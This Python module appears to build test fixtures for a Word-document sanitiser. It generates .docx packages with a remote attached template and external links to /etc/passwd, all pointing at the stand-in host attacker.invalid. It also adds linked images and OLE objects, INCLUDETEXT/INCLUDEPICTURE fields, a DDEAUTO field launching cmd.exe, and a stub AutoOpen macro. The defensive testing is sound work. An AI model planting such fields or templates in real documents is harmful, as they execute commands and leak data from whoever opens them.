"""House-style documents that reach outside themselves, built with python-docx: an attached
template on a server, links in the header and footer, pictures and objects linked rather than
embedded, fields that fetch files, a mail merge with its data source."""

from __future__ import annotations

import io
import zipfile

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml.ns import nsdecls
from lxml import etree

ATTACKER = "attacker.invalid"
TEMPLATE_URL = f"http://{ATTACKER}/t.dotm"
NS = nsdecls("w", "r", "a", "pic", "wp")
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ATTACHED_TEMPLATE = f"{OFFICE}/attachedTemplate"
MAIL_MERGE_SOURCE = f"{OFFICE}/mailMergeSource"


def _xml(text: str) -> etree._Element:
    return etree.fromstring(
        f'<w:wrap {NS} xmlns:v="urn:schemas-microsoft-com:vml" '
        f'xmlns:o="urn:schemas-microsoft-com:office:office">{text}</w:wrap>'
    )[0]


def _run(text: str) -> str:
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def _complex(instruction: str, shown: str) -> list[str]:
    return [
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>',
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
        _run(shown),
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
    ]


def _linked_picture(r_id: str) -> str:
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/>'
        '<wp:docPr id="7" name="Logo"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        '<pic:nvPicPr><pic:cNvPr id="7" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr>'
        f'<pic:blipFill><a:blip r:link="{r_id}"/><a:stretch><a:fillRect/></a:stretch>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/>'
        '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def _linked_object(r_id: str) -> str:
    return (
        '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" '
        'type="#_x0000_t75" style="width:72pt;height:72pt"/><o:OLEObject Type="Link" '
        f'ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="{r_id}" '
        'UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType></o:OLEObject>'
        "</w:object></w:r>"
    )


def reaching_out() -> bytes:
    """A house document with every kind of reach outside itself; its header reads "House
    header: our site" and its footer "Page N", which must survive."""
    document = docx.Document()
    document.add_paragraph("Template text.")
    settings = document.part.part_related_by(RT.SETTINGS)
    template_id = settings.relate_to(TEMPLATE_URL, ATTACHED_TEMPLATE, is_external=True)
    settings.element.insert(1, _xml(f'<w:attachedTemplate r:id="{template_id}"/>'))
    source = settings.relate_to(
        f"file:///{ATTACKER}/list.xlsx", MAIL_MERGE_SOURCE, is_external=True
    )
    settings.element.insert(
        2,
        _xml(
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/>'
            '<w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0"/>'
            '<w:query w:val="SELECT * FROM `Sheet1$`"/>'
            f'<w:dataSource r:id="{source}"/></w:mailMerge>'
        ),
    )
    document.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)

    header = document.sections[0].header
    header.is_linked_to_previous = False
    part = header.part
    link = part.relate_to(f"https://{ATTACKER}/track", RT.HYPERLINK, is_external=True)
    picture = part.relate_to(f"http://{ATTACKER}/logo.png", RT.IMAGE, is_external=True)
    ole = part.relate_to(f"file://{ATTACKER}/share/figures.xlsx", RT.OLE_OBJECT, is_external=True)
    paragraph = header.paragraphs[0]._p
    pieces = [
        _run("House header: "),
        f'<w:hyperlink r:id="{link}">{_run("our site")}</w:hyperlink>',
        _linked_picture(picture),
        _linked_object(ole),
        f"<w:fldSimple w:instr=' INCLUDETEXT \"http://{ATTACKER}/x.docx\" '>{_run('')}</w:fldSimple>",
        *_complex(f'INCLUDEPICTURE "http://{ATTACKER}/p.png" \\d', ""),
    ]
    for piece in pieces:
        paragraph.append(_xml(piece))

    footer = document.sections[0].footer
    footer.is_linked_to_previous = False
    paragraph = footer.paragraphs[0]._p
    for piece in [
        _run("Page "),
        *_complex(" PAGE ", "1"),
        *_complex(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ', ""),
        f'<w:fldSimple w:instr=" HYPERLINK &quot;http://{ATTACKER}/f&quot; ">'
        f"{_run('')}</w:fldSimple>",
    ]:
        paragraph.append(_xml(piece))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def with_parts(package: bytes, changes: dict[str, bytes]) -> bytes:
    """The package with parts replaced or added, as a zip tool would leave it."""
    source = zipfile.ZipFile(io.BytesIO(package))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, changes.get(info.filename, source.read(info)))
        for name in sorted(set(changes) - set(source.namelist())):
            target.writestr(name, changes[name])
    return out.getvalue()


def plain() -> bytes:
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


def attached_template() -> bytes:
    """The break-it pass's document, made as it made it (by editing the zip): an attached
    template on a server, and an external relationship to /etc/passwd."""
    package = plain()
    parts = parts_of(package)
    settings = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rId1"/><w:zoom ', 1
    )
    assert b"attachedTemplate" in settings and b"xmlns:r=" in settings
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
        b' Type="' + ATTACHED_TEMPLATE.encode() + b'" Target="' + TEMPLATE_URL.encode() + b'" '
        b'TargetMode="External"/></Relationships>'
    )
    document_rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Type="' + OFFICE.encode() + b'/oleObject" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    )
    return with_parts(
        package,
        {
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": rels,
            "word/_rels/document.xml.rels": document_rels,
        },
    )


def with_macros() -> bytes:
    """A macro-enabled Word template (.dotm): its macros in word/vbaProject.bin."""
    package = plain()
    parts = parts_of(package)
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    )
    types = types.replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = parts["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
        b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    return with_parts(
        package,
        {
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": rels,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()" + bytes(64),
        },
    )
